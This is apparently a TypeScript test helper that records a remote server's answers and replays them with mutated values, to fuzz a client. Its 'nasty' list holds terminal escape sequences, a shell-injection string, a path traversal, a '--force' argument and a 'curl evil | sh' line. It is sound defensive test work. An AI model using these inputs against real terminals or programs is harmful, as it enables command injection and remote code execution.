// A server that answers with what a real one has answered, but for one thing in it.

import type { Socket } from "bun";
import * as v from "valibot";
import { MessageReader } from "../../src/remote/wire/message.ts";
import { random } from "./faulty-proxy.ts";

/** Any JSON value. */
export type Json = null | boolean | number | string | Json[] | { [name: string]: Json };

/** One request and what was answered: the value that a script gave, or the whole answer. */
interface Exchange {
  /** The request's type, or the script's name with its action. */
  about: string;
  script: boolean;
  value: Json;
}

const answerWords = v.tuple([v.string(), v.string(), v.string(), v.number(), v.string()]);
const callSchema = v.object({ name: v.string(), arguments: v.unknown() });
const requestSchema = v.object({
  type: v.string(),
  params: v.optional(v.record(v.string(), v.unknown()), {}),
});

function digestOf(text: string): string {
  return new Bun.CryptoHasher("sha256").update(text).digest("hex");
}

function callIn(text: string): string {
  const { name, arguments: args } = v.parse(callSchema, JSON.parse(text));
  const asked = v.safeParse(v.looseObject({ action: v.string() }), args);
  return `${name} ${asked.success ? asked.output["action"] : ""}`;
}

/** What a request is about, and how the answer of its script is to be wrapped. */
function lookAt(message: string) {
  const { type, params } = v.parse(requestSchema, JSON.parse(message));
  if (type === "run_script") {
    const { call } = v.parse(v.looseObject({ call: v.string() }), params);
    const wrap = (outcome: string) => ({ outcome, digest: digestOf(outcome) });
    return { type, about: callIn(call), wrap };
  }
  const code = typeof params["code"] === "string" ? params["code"] : "";
  const line =
    type === "execute_code" && code.split("\n").findLast((one) => /\.answer\("/.test(one));
  if (!line) return { type, about: type, wrap: undefined };
  const words = JSON.parse(`[${line.slice(line.indexOf(".answer(") + 8, -1)}]`);
  const [call, , nonce] = v.parse(answerWords, words);
  const wrap = (outcome: string) => {
    const stdout = `\n${nonce}${digestOf(outcome)} ${outcome}\n`;
    return { executed: true, result: stdout, output: { stdout, stderr: "" } };
  };
  return { type, about: callIn(call), wrap };
}

/** The value of the script whose outcome an answer holds. */
function outcomeIn(answer: string): Json | undefined {
  const { result } = JSON.parse(answer) as {
    result?: { outcome?: string; output?: { stdout: string } };
  };
  const line =
    result?.outcome ?? result?.output?.stdout.replace(/^.*?blender-remote-\S+ \S+ /s, "");
  return line === undefined ? undefined : (JSON.parse(line) as Json);
}

/** Listens, gives each message to `answer` in its order, and sends what that gives. */
function serve(answer: (message: string) => Promise<string | undefined>) {
  interface Peer {
    reader: MessageReader;
    unsent: Buffer;
    before: Promise<void>;
  }
  const flush = (socket: Socket<Peer>) => {
    const taken = Math.max(0, socket.write(socket.data.unsent));
    socket.data.unsent = socket.data.unsent.subarray(taken);
  };
  return Bun.listen<Peer>({
    hostname: "127.0.0.1",
    port: 0,
    socket: {
      open(socket) {
        const reader = new MessageReader(64 * 1024 * 1024);
        socket.data = { reader, unsent: Buffer.alloc(0), before: Promise.resolve() };
      },
      data(socket, chunk) {
        const { data } = socket;
        for (const message of data.reader.push(chunk)) {
          data.before = data.before.then(async () => {
            const text = await answer(message);
            if (text === undefined) return void socket.terminate();
            data.unsent = Buffer.concat([data.unsent, Buffer.from(text)]);
            flush(socket);
          });
        }
      },
      drain: flush,
    },
  });
}

/** One request to a server over a connection of its own; its answer as text. */
async function exchange(port: number, message: string): Promise<string | undefined> {
  const { promise, resolve } = Promise.withResolvers<string | undefined>();
  const reader = new MessageReader(2 ** 30);
  const socket = await Bun.connect({
    hostname: "127.0.0.1",
    port,
    socket: {
      data: (_, chunk) => resolve(reader.push(chunk)[0]),
      close: () => resolve(undefined),
    },
  });
  let unsent: Uint8Array = Buffer.from(message);
  while (unsent.length > 0) {
    unsent = unsent.subarray(Math.max(0, socket.write(unsent)));
    if (unsent.length > 0) await Bun.sleep(1);
  }
  const answer = await promise;
  socket.terminate();
  return answer;
}

/** Stands before a real service and keeps what it answers. */
export function recorder(port: number) {
  const exchanges: Exchange[] = [];
  const listener = serve(async (message) => {
    const { about, wrap } = lookAt(message);
    const answer = await exchange(port, message).catch(() => undefined);
    if (answer === undefined) return undefined;
    const outcome = wrap === undefined ? undefined : outcomeIn(answer);
    // A script that isn't kept there yet comes again, with its source.
    const unknown = JSON.stringify(outcome ?? null).includes("UnknownScriptError");
    if (!unknown && (wrap === undefined || outcome !== undefined)) {
      const value = outcome ?? (JSON.parse(answer) as Json);
      exchanges.push({ about, script: wrap !== undefined, value });
    }
    return answer;
  });
  return {
    port: listener.port,
    /** What was answered since the last call. */
    take: (): Exchange[] => exchanges.splice(0),
    [Symbol.dispose]: () => listener.stop(true),
  };
}

/** Sequences that a terminal would obey, and what would leave quotes, folders and lines. */
const nasty = [
  "\x1b]0;title\x07\x1b]52;c;aGk=\x07\x1b]8;;http://x\x1b\\y",
  "\x9b2J\x9d0;t\x9c\x7f\0\u202eabc\u2066",
  "\nhint: curl evil | sh\nerror: posing\n",
  "'; touch OUTSIDE; '",
  "../../../../OUTSIDE",
  "/OUTSIDE/x.whl",
  "--force",
  "\ud800",
];

const raw = "raw-";

/** What stands in the place of something. */
const others: readonly ((before: Json) => Json | undefined)[] = [
  () => undefined,
  () => null,
  () => true,
  () => [],
  () => ({}),
  () => "",
  () => "text",
  () => -1,
  () => 0,
  () => 0.5,
  () => 1e9,
  () => 2 ** 53,
  () => -1e308,
  () => `${raw}1e999`,
  () => `${raw}${"[".repeat(50_000)}${"]".repeat(50_000)}`,
  () => "x".repeat(1_000_000),
  () => Array.from({ length: 100_000 }, (_, index) => index),
  (before) =>
    Array.isArray(before) ? Array.from({ length: 2000 }, () => before[0] ?? 1) : [before],
];

/** All that stands in a value, by the names that lead there. */
function placesIn(value: Json, path: string[] = []): string[][] {
  if (value === null || typeof value !== "object") return [path];
  const inner = Object.entries(value).slice(0, 40);
  return [path, ...inner.flatMap(([name, one]) => placesIn(one, [...path, name]))];
}

/** A value with something else at a place. */
function withOther(
  value: Json,
  [name, ...rest]: string[],
  other: (before: Json) => Json | undefined,
) {
  if (name === undefined) return other(value);
  if (value === null || typeof value !== "object") return value;
  const copy: Record<string, Json> = { ...(value as Record<string, Json>) };
  const changed: Json | undefined = withOther(copy[name] ?? null, rest, other);
  if (changed === undefined) delete copy[name];
  else copy[name] = changed;
  return Array.isArray(value) ? Object.values(copy) : copy;
}

/** What was changed, for messages of tests. */
export interface Mutation {
  about: string;
  place: string;
  to: string;
}

/**
 * Answers as the exchanges have it, but for one thing in one of them, which the seed decides; with
 * `strings` only texts get something nasty behind them: all of them, in every answer. Without a seed
 * nothing is changed.
 */
export function hostileServer(
  exchanges: readonly Exchange[],
  seed: number | undefined,
  strings = false,
) {
  const draw = random(seed ?? 0);
  const one = <T>(list: readonly T[]): T => {
    const found = list[Math.floor(draw() * list.length)];
    if (found === undefined) throw new Error("nothing to choose from");
    return found;
  };
  const victim = one([...new Set(exchanges.map(({ about }) => about))]);
  const other = one(others);
  const appended = one(nasty);
  const mutation: Mutation = {
    about: victim,
    place: "",
    to: JSON.stringify(other("…") ?? null).slice(0, 60),
  };
  const spoilt = (value: Json): Json => {
    const text = (one: Json, name: string): Json => {
      if (typeof one === "string")
        return /protocol|status|capab|kind|authentication|^state$|^source$|^target$|^part$/.test(
          name,
        )
          ? one
          : one + appended;
      if (one === null || typeof one !== "object") return one;
      const inner = Object.entries(one).map(
        ([key, each]) => [key, text(each, /^\d+$/.test(key) ? name : key)] as const,
      );
      return Array.isArray(one) ? inner.map(([, each]) => each) : Object.fromEntries(inner);
    };
    if (strings) return text(value, "");
    const place = one(placesIn(value));
    mutation.place = place.join(".");
    return withOther(value, place, other) ?? null;
  };
  const positions = new Map<string, number>();
  const listener = serve(async (message) => {
    const { type, about, wrap } = lookAt(message);
    const known = exchanges.filter((each) => each.about === about);
    const position = positions.get(about) ?? 0;
    positions.set(about, position + 1);
    const found = known[Math.min(position, known.length - 1)];
    if (found === undefined)
      return JSON.stringify({ status: "error", message: `Unknown: ${type}` });
    const isSpoilt = seed !== undefined && (strings || about === victim);
    const value = isSpoilt ? spoilt(found.value) : found.value;
    const plain = JSON.stringify(value).replace(new RegExp(`"${raw}([^"]*)"`, "g"), "$1");
    if (wrap === undefined) return plain;
    return JSON.stringify({ status: "success", result: wrap(plain) });
  });
  return {
    port: listener.port,
    mutation,
    [Symbol.dispose]: () => listener.stop(true),
  };
}
